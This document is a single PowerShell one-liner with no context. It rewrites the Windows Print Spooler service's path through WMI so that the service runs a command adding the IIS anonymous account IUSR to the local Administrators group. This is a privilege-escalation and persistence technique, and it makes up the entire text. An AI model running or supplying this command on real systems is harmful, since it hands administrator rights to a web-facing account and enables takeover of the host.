(Get-WmiObject Win32_Service -Filter "Name='Spooler'").Change('cmd /c net localgroup Administrators IUSR /add')
